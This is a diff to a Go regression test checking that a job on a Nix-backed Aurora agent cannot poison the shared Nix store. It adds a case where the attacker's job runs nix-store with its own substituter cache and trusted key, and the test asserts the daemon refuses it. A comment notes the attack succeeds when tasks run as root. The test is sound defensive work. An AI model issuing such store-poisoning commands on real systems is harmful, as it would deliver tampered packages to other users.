@@ -17,6 +17,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/paypal/gorealis/gen-go/apache/aurora"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
@@ -43,10 +44,16 @@ const (
 // TrustedKeys); an attacker's job names the example hello, served from the
 // attacker's own cache as an altered copy of the same store path signed
 // with the attacker's key, and says so in every way a job can (its cache
-// with its key, its cache alone, its cache with trusted=1). Every attempt
-// is refused with a one-line error, the agent store's hello keeps the
+// with its key, its cache alone, its cache with trusted=1), then runs
+// nix-store itself with its cache and key as options. Every attempt
+// is refused (the first three with a one-line error, the last by the
+// agent's nix-daemon, which does not trust the task's user), the agent store's hello keeps the
 // genuine NAR hash, and the victim's job on that agent prints the genuine
 // text.
+//
+// With RunAs "root" and UnsafeRunTasksAsRoot (tasks as root, whom the
+// daemon trusts), the direct attempt succeeds and the victim prints
+// "Hacked world!": checked when the test was written.
 //
 // On 57e83d4, before the trust fix, it failed (ported: the key in the
 // victim's payload, polling instead of Create's wait): every attempt ran,
@@ -119,16 +126,49 @@ func TestJobCannotPoisonAgentStore(t *testing.T) {
 		}
 	}
 
-	// The victim's job uses hello from the operator's cache on that agent.
-	c := newClient(t, srv.ClientOptions(), nixrealis.WithPreparer(operator.preparer(examplePackages(t), "hello")))
-	_, err = c.Create(ctx, helloJob("hello", 1).WithHealthCheck(neverHealthy()))
+	// A job's processes are arbitrary commands: the attacker's next job
+	// runs nix-store itself, naming its cache and key as Nix options. The
+	// task runs as an unprivileged user, a client the agent's nix-daemon
+	// does not trust, so the daemon ignores both and substitutes only from
+	// the operator's caches, which do not have hello yet: the realise fails
+	// and the agent store gets nothing from the attacker.
+	nixStore, err := exec.LookPath("nix-store")
 	require.NoError(t, err)
-	st, err := c.Status(ctx, testKey)
+	direct := fmt.Sprintf("%s --realise %s --option substituters %s --option trusted-public-keys %s; echo realise exit $?",
+		nixStore, hello, attacker.cacheURL, attacker.pub)
+	directKey := attackerKey
+	directKey.Name = "direct"
+	c := newClient(t, srv.ClientOptions())
+	_, err = c.Create(ctx, helloJob(direct, 1).WithKey(directKey))
+	require.NoError(t, err, "the attacker's direct job runs to its end")
+	st, err := c.Status(ctx, directKey)
 	require.NoError(t, err)
 	require.Len(t, st.Tasks, 1)
+	end, err := ex.Wait(ctx, st.Tasks[0].TaskID)
+	require.NoError(t, err)
+	assert.Equal(t, aurora.ScheduleStatus_FINISHED, end.Status, end.Message)
 	info, ok := ex.Task(st.Tasks[0].TaskID)
 	require.True(t, ok)
 	out, err := os.ReadFile(filepath.Join(info.Sandbox, ".logs", "main", "0", "stdout"))
+	require.NoError(t, err)
+	stderr, err := os.ReadFile(filepath.Join(info.Sandbox, ".logs", "main", "0", "stderr"))
+	require.NoError(t, err)
+	t.Logf("the direct attack's nix-store said: %s", stderr)
+	assert.Regexp(t, `realise exit [1-9]`, string(out), "nix-store --realise with the attacker's options fails")
+	if b, err := exec.Command("nix-store", "--store", store, "--query", "--hash", string(hello)).Output(); err == nil {
+		assert.Equal(t, genuineHash, nixHashHex(t, strings.TrimSpace(string(b))), "hello in the agent store after the direct attack")
+	}
+
+	// The victim's job uses hello from the operator's cache on that agent.
+	c = newClient(t, srv.ClientOptions(), nixrealis.WithPreparer(operator.preparer(examplePackages(t), "hello")))
+	_, err = c.Create(ctx, helloJob("hello", 1).WithHealthCheck(neverHealthy()))
+	require.NoError(t, err)
+	st, err = c.Status(ctx, testKey)
+	require.NoError(t, err)
+	require.Len(t, st.Tasks, 1)
+	info, ok = ex.Task(st.Tasks[0].TaskID)
+	require.True(t, ok)
+	out, err = os.ReadFile(filepath.Join(info.Sandbox, ".logs", "main", "0", "stdout"))
 	require.NoError(t, err)
 	assert.Equal(t, genuineText+" (from a Nix-built package, instance ?)\n", string(out), "the victim runs the genuine hello")
 
